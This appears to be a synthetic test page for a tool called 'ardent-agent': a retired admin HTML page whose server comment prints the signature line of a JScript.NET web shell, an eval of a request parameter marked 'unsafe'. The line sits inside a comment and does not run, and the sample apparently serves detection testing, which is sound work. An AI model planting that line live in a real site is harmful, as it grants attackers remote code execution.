<%-- SYNTHETIC DEMO SAMPLE for ardent-agent. Not a working web shell: the
     marker of a JScript.NET one-liner appears only inside this comment:
     eval(Request.Item["z"], "unsafe")
--%>
<html><body><p>Old admin page, retired.</p></body></html>
